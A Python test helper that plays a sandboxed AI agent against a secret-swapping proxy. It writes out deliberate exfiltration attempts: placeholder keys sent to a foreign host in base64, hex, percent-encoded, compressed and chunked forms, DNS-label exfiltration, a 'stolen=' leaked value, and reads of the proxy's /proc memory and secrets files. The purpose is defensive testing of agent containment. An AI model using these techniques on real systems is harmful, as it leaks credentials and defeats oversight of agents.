"""Run as the jailed agent by test_secrets.py: uses its placeholders everywhere, reports.

argv[1] is a JSON spec (canary, hosts, files). The agent knows only what its environment
holds: LAB_API_KEY, RAND_KEY, PLAIN_KEY (placeholders) and one real value that "leaked"
into a file it can read (BREACHKEY's, to show a breach is caught). It writes its results
as JSON to spec["out"], then waits for spec["release"] (the test looks at the running
jail meanwhile) and exits 0.
"""

import base64
import gzip
import http.client
import json
import os
import socket
import ssl
import struct
import sys
import time

import brotli

SPEC = json.loads(sys.argv[1])
CANARY = SPEC["canary"]
BOUND, OTHER = SPEC["bound"], SPEC["other"]
PH = os.environ["LAB_API_KEY"]
RAND = os.environ["RAND_KEY"]
PLAIN = os.environ["PLAIN_KEY"]
results: dict = {}


def check(name):
    def wrap(fn):
        t = time.monotonic()
        try:
            results[name] = {"ok": True, **(fn() or {})}
        except Exception as e:  # reported, judged by the test
            results[name] = {"ok": False, "error": f"{type(e).__name__}: {e}"}
        results[name]["elapsed"] = round(time.monotonic() - t, 3)
        return fn
    return wrap


def request(scheme, host, method, path, headers=None, body=None, timeout=30, chunked=False):
    if scheme == "https":
        conn = http.client.HTTPSConnection(host, context=ssl.create_default_context(),
                                           timeout=timeout)
    else:
        conn = http.client.HTTPConnection(host, timeout=timeout)
    try:
        conn.request(method, path, body=body, headers=headers or {}, encode_chunked=chunked)
        r = conn.getresponse()
        data = r.read()
        return {"status": r.status, "body": data.decode("utf-8", "replace")[:20000],
                "headers": {k.lower(): v for k, v in r.getheaders()}}
    finally:
        conn.close()


def b64(data):
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def dns_query(server, name):
    q = struct.pack(">HHHHHH", os.getpid() & 0xFFFF, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(q, (server, 53))
        data, _ = s.recvfrom(4096)
    return {"rcode": struct.unpack(">H", data[2:4])[0] & 0xF}


# --- the swap, where the secret belongs ------------------------------------------------

def p(kind):
    return f"/swap/{kind}/{CANARY}"


check("swap_header")(lambda: request("https", BOUND, "GET", p("header"),
                                     {"Authorization": f"Bearer {PH}"}))
check("swap_query")(lambda: request("https", BOUND, "GET", p("query") + f"?key={PH}"))
check("swap_json")(lambda: request("https", BOUND, "POST", p("json"),
                                   {"Content-Type": "application/json"},
                                   json.dumps({"key": PH}).encode()))
check("swap_gzip")(lambda: request("https", BOUND, "POST", p("gzip"),
                                   {"Content-Encoding": "gzip"},
                                   gzip.compress(f"key={PH}".encode())))
check("swap_br")(lambda: request("https", BOUND, "POST", p("br"), {"Content-Encoding": "br"},
                                 brotli.compress(f"key={PH}".encode())))
check("swap_basic")(lambda: request("https", BOUND, "GET", p("basic"),
                                    {"Authorization": "Basic " + b64(f"user:{PH}")}))
check("swap_rand")(lambda: request("https", BOUND, "GET", p("rand"), {"X-Rand": RAND}))
check("rand_body")(lambda: request("https", BOUND, "POST", p("randbody"), {},
                                   f"k={RAND}".encode()))


def split_chunks():
    ph = PH.encode()
    for part in (b"a" * 100 + ph[:9], ph[9:20], ph[20:] + b"-end"):
        yield part
        time.sleep(0.3)  # separate reads at the proxy, as far as the network lets it


check("swap_chunked")(lambda: request("https", BOUND, "POST", p("chunked"), {}, split_chunks(),
                                      chunked=True))

# --- plain HTTP ------------------------------------------------------------------------

check("plain_bound")(lambda: request("http", BOUND, "GET", f"/plain/bound/{CANARY}",
                                     {"Authorization": f"Bearer {PH}"}))
check("plain_swap")(lambda: request("http", OTHER, "GET", f"/plain/swap/{CANARY}",
                                    {"X-Key": PLAIN}))

# --- tripwires toward a host the secret does not belong to -------------------------------

PCT = "".join(f"%{c:02X}" for c in PH.encode())
TRIPS = {
    "header": ("GET", "", {"X-Api-Key": PH}, None),
    "query": ("GET", f"?q={PH}", {}, None),
    "path": ("GET", f"/{PH}", {}, None),
    "body": ("POST", "", {}, f"payload {PH} end".encode()),
    "b64_0": ("POST", "", {}, b64(PH).encode()),
    "b64_1": ("POST", "", {}, b64("x" + PH).encode()),
    "b64_2": ("POST", "", {}, b64("xy" + PH).encode()),
    "basic": ("GET", "", {"Authorization": "Basic " + b64(f"u:{PH}")}, None),
    "hex": ("POST", "", {}, PH.encode().hex().encode()),
    "pct_query": ("GET", f"?q={PCT}", {}, None),
    "pct_partial": ("GET", f"?q={PH[:5]}%{ord(PH[5]):02x}{PH[6:]}", {}, None),
    "json": ("POST", "", {"Content-Type": "application/json"}, json.dumps({"k": PH}).encode()),
    "gzip": ("POST", "", {"Content-Encoding": "gzip"}, gzip.compress(f"x {PH}".encode())),
    "br": ("POST", "", {"Content-Encoding": "br"}, brotli.compress(f"x {PH}".encode())),
    "control": ("POST", "", {"X-Api-Key": "nothing"}, b"payload without a placeholder"),
}
for label, (method, suffix, headers, body) in TRIPS.items():
    check(f"trip_{label}")(lambda label=label, method=method, suffix=suffix, headers=headers,
                           body=body: request("https", OTHER, method,
                                              f"/trip/{label}/{CANARY}{suffix}", headers, body))

DYN = SPEC["dyn"]
check("dns_control")(lambda: dns_query(SPEC["dns"], f"ctl-{CANARY}.{DYN}"))
check("dns_plain")(lambda: dns_query(SPEC["dns"], f"{PH.lower()}.{DYN}"))
hexed = PH.encode().hex()
check("dns_hex")(lambda: dns_query(SPEC["dns"], f"{hexed[:40]}.{hexed[40:]}.{DYN}"))

# --- a real value the agent should never have had, and credential shapes ---------------

with open(SPEC["leak_file"]) as f:
    LEAKED = f.read().strip()
check("breach_other")(lambda: request("https", OTHER, "POST", f"/breach/other/{CANARY}", {},
                                      f"stolen={LEAKED}".encode()))
check("breach_bound")(lambda: request("https", BOUND, "GET", f"/breach/bound/{CANARY}",
                                      {"Authorization": f"Bearer {LEAKED}"}))
# LABKEY is `exclusive`: a credential of the agent's own to its domain is refused.
check("own_credential")(lambda: request("https", BOUND, "GET", f"/own/{CANARY}",
                                        {"X-Api-Key": "owntoken-1"}))  # short: no DLP hit
check("dlp")(lambda: request("https", OTHER, "POST", f"/dlp/{CANARY}", {},
                             b"my token ghp_" + b"Zx9Qw8Er7Ty6Ui5Op4As3Df2Gh1Jk0LmNbVc"))

# --- what the agent cannot read --------------------------------------------------------


def try_read(path):
    try:
        with open(path, "rb") as f:
            f.read(1)
        return "read"
    except OSError as e:
        return f"{type(e).__name__} {e.errno}"


@check("reach")
def _():
    out = {"secret_file": try_read(SPEC["secret_file"]),
           "credential": try_read(SPEC["credential_file"])}
    for d in os.listdir("/run/panopticon"):
        out[f"run:{d}"] = try_read(f"/run/panopticon/{d}/secrets.json")
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"proxy_main" in cmd:
            out["proxy_cmdline"] = cmd.decode("utf-8", "replace")
            for what in ("environ", "mem", "maps"):
                out[f"proxy_{what}"] = try_read(f"/proc/{pid}/{what}")
    out["env"] = {k: v for k, v in os.environ.items() if k.endswith("_KEY")}
    return out


# --- a large streamed upload, the placeholder near its end and across a boundary ------

MB = 1 << 20


def big_body(size):
    marks = {size - 4 * MB - 10: PH.encode(), size - 1000: PH.encode()}
    block = bytearray(MB)
    sent = 0
    while sent < size:
        n = min(MB, size - sent)
        data = bytearray(block[:n])
        for at, mark in marks.items():
            lo, hi = max(at, sent), min(at + len(mark), sent + n)
            if lo < hi:
                data[lo - sent:hi - sent] = mark[lo - at:hi - at]
        yield bytes(data)
        sent += n


for name, host, size in (("big_bound", BOUND, SPEC["big"]), ("big_other", OTHER, 16 * MB)):
    check(name)(lambda host=host, size=size, name=name: request(
        "https", host, "POST", f"/big/{name}/{CANARY}", {"Content-Length": str(size)},
        big_body(size), timeout=300))

with open(SPEC["out"], "w") as f:
    json.dump(results, f)
deadline = time.monotonic() + 300
while not os.path.exists(SPEC["release"]) and time.monotonic() < deadline:
    time.sleep(0.1)
